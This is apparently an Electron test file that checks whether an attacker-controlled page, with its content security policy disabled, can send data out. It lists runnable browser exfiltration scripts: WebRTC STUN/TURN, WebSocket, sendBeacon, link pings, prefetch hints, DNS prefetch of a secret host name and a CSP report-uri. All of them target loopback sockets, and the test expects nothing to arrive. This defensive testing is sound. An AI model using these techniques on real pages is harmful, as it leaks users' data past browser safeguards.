/**
 * Tests in Electron's runtime that a page that an attacker controls cannot send anything to others.
 *
 * The page's content security policy is switched off, because a page that can run any code knows ways that the policy
 * does not cover. Each way is tried towards a socket of this machine. All of them would succeed if the program did not
 * cut Chromium off from every host (`main/electron/safety`).
 */
import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer, type AddressInfo, type Server } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { realProgram } from './real-program.ts'

/** Everything that arrived at the two sockets. */
const arrived: string[] = []
let packets: Socket
let connections: Server

beforeAll(async () => {
  packets = createSocket('udp4')
    .on('message', (bytes) => {
      arrived.push(`packet of ${bytes.length} bytes`)
    })
    .bind(0, '127.0.0.1')
  connections = createServer((socket) => {
    arrived.push('connection')
    socket
      .on('error', () => undefined)
      .on('data', (bytes) => {
        arrived.push(bytes.toString('latin1').split('\r\n')[0]!)
      })
  }).listen(0, '127.0.0.1')
  await Promise.all([once(packets, 'listening'), once(connections, 'listening')])
})
afterAll(() => {
  packets.close()
  connections.close()
})

const SECRET = 'secret-of-the-page.example.test'
/** Connects two ends in the page. One of them is told that the other is on another machine. */
const PEERS = `const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()]
  here.createDataChannel('x')
  await here.setLocalDescription(await here.createOffer())
  await there.setRemoteDescription(here.localDescription)
  await here.setRemoteDescription(await there.createAnswer())
  const goTo = candidate => here.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 })`
const SERVER = `const gather = async server => {
    const here = new RTCPeerConnection({ iceServers: [server] })
    here.createDataChannel('x')
    await here.setLocalDescription(await here.createOffer())
    if (here.iceGatheringState !== 'complete') await new Promise(done => { here.onicegatheringstatechange = () => { if (here.iceGatheringState === 'complete') done() } })
  }`
const link = (rel: string, href: string): string =>
  `document.head.append(Object.assign(document.createElement('link'), { rel: '${rel}', href: ${href}, as: '${rel === 'preload' ? 'image' : ''}' }))`
const clicked = (set: string): string =>
  `const a = Object.assign(document.createElement('a'), ${set}); document.body.append(a); a.click(); a.remove()`

/** Scripts that use `far` (`http://127.0.0.1:port`), `tcp` and `udp` (ports). */
const WAYS: Readonly<Record<string, string>> = {
  'WebRTC: a STUN server': `${SERVER}; await gather({ urls: 'stun:127.0.0.1:' + udp })`,
  'WebRTC: a TURN server over UDP': `${SERVER}; await gather({ urls: 'turn:127.0.0.1:' + udp, username: 'a', credential: 'b' })`,
  'WebRTC: a TURN server over TCP': `${SERVER}; await gather({ urls: 'turn:127.0.0.1:' + tcp + '?transport=tcp', username: 'a', credential: 'b' })`,
  'WebRTC: the other end, over UDP': `${PEERS}; await goTo('candidate:1 1 udp 2113937151 127.0.0.1 ' + udp + ' typ host')`,
  'WebRTC: the other end, over TCP': `${PEERS}; await goTo('candidate:1 1 tcp 1518280447 127.0.0.1 ' + tcp + ' typ host tcptype passive')`,
  WebTransport: `await new WebTransport('https://127.0.0.1:' + udp).ready`,
  WebSocket: `await new Promise((done, failed) => { Object.assign(new WebSocket('ws://127.0.0.1:' + tcp), { onopen: done, onerror: failed }) })`,
  EventSource: `const source = new EventSource(far); await new Promise(done => { source.onopen = source.onerror = done }); source.close()`,
  fetch: `await fetch(far, { mode: 'no-cors' })`,
  'fetch that outlives the page': `await fetch(far, { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
  sendBeacon: `navigator.sendBeacon(far, 'x')`,
  'a ping of a link': clicked(`{ href: '#x', ping: far }`),
  'a download': clicked(`{ href: far + '/x', download: 'x' }`),
  'a link': clicked(`{ href: far }`),
  'window.open': `open(far)`,
  'a form': `const form = Object.assign(document.createElement('form'), { action: far, method: 'post' }); document.body.append(form); form.submit(); form.remove()`,
  'a picture, sound, style, script and frame': `for (const [name, key] of [['img', 'src'], ['video', 'src'], ['script', 'src'], ['iframe', 'src'], ['object', 'data'], ['embed', 'src']]) document.body.append(Object.assign(document.createElement(name), { [key]: far }))
    ${link('stylesheet', 'far')}`,
  'hints to connect and fetch': ['preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'manifest']
    .map((rel) => link(rel, 'far'))
    .join('\n'),
  'names that are looked up': `${link('dns-prefetch', `'//${SECRET}'`)}; ${link('preconnect', `'https://${SECRET}'`)}`,
  'speculation rules': `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [far] }] }) }))`,
  'a report of its policy': `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'content-security-policy', content: "img-src 'none'; report-uri " + far })); new Image().src = 'data:image/gif,x'`,
}

/** Scripts for features that the page does not get. */
const REFUSED: Readonly<Record<string, string>> = {
  'a service worker': `await navigator.serviceWorker.register('/assets/x.js')`,
  'a protocol': `navigator.registerProtocolHandler('web+lenslet', '/?%s')`,
  'sockets of its own': `new TCPSocket('127.0.0.1', tcp)`,
}

/** A script that waits for an answer may take a minute. What it sends arrives long before that. */
const PATIENCE_MS = 3_000

async function tryOut(page: Page, script: string): Promise<string> {
  const [tcp, udp] = [(connections.address() as AddressInfo).port, packets.address().port]
  const tried = `(async (far, tcp, udp) => { try { ${script}; return 'done' } catch (error) { return 'refused' } })('http://127.0.0.1:${tcp}', ${tcp}, ${udp})`
  return page.evaluate(
    `Promise.race([${tried}, new Promise(done => { setTimeout(done, ${PATIENCE_MS}, 'too long') })])`,
  )
}

test('nothing that a page does reaches another program or machine, or resolves a host name', async () => {
  const { program, page, home } = await realProgram()
  await (await page.context().newCDPSession(page)).send('Page.setBypassCSP', { enabled: true })
  await page.reload()
  await page.getByTestId('cell').first().waitFor()
  const log = join(home, 'network.json')
  await program.inMain(({ session, BrowserWindow }, file) => {
    const { webContents } = BrowserWindow.getAllWindows()[0]!
    return Promise.all(
      [session.defaultSession, webContents.session].map((one, at) => one.netLog.startLogging(`${file}-${at}`)),
    )
  }, log)
  for (const [name, script] of Object.entries(WAYS)) {
    await tryOut(page, script)
    expect.soft(arrived.splice(0), name).toEqual([])
  }
  for (const [name, script] of Object.entries(REFUSED)) expect.soft(await tryOut(page, script), name).toBe('refused')
  // A connection sends packets by itself until it gives up: the first within 50 ms, the second within 250 ms.
  await page.waitForTimeout(1_000)
  expect.soft(arrived).toEqual([])
  expect(await program.windowIds()).toHaveLength(1)
  await program.inMain(({ session, BrowserWindow }) =>
    Promise.all(
      [session.defaultSession, BrowserWindow.getAllWindows()[0]!.webContents.session].map((one) =>
        one.netLog.stopLogging(),
      ),
    ),
  )
  const logs = await Promise.all([0, 1].map((at) => readFile(`${log}-${at}`, 'utf8')))
  expect(logs.join(''), 'the log contains hosts that were not looked up').toMatch(/~notfound/i)
  expect(lookedUp(logs)).toEqual([])
})

interface NetLog {
  readonly constants: { readonly logEventTypes: Readonly<Record<string, number>> }
  readonly events: readonly {
    readonly type: number
    readonly params?: { readonly host?: string; readonly hostname?: string }
  }[]
}

/** Returns the hosts that Chromium tried to resolve. */
function lookedUp(logs: readonly string[]): string[] {
  return logs
    .map((text) => JSON.parse(text) as NetLog)
    .flatMap(({ constants: { logEventTypes }, events }) => {
      const asking = new Set(['HOST_RESOLVER_MANAGER_JOB', 'DNS_TRANSACTION'].map((name) => logEventTypes[name]))
      return events.filter(({ type }) => asking.has(type)).map(({ params }) => params?.host ?? params?.hostname ?? '')
    })
}
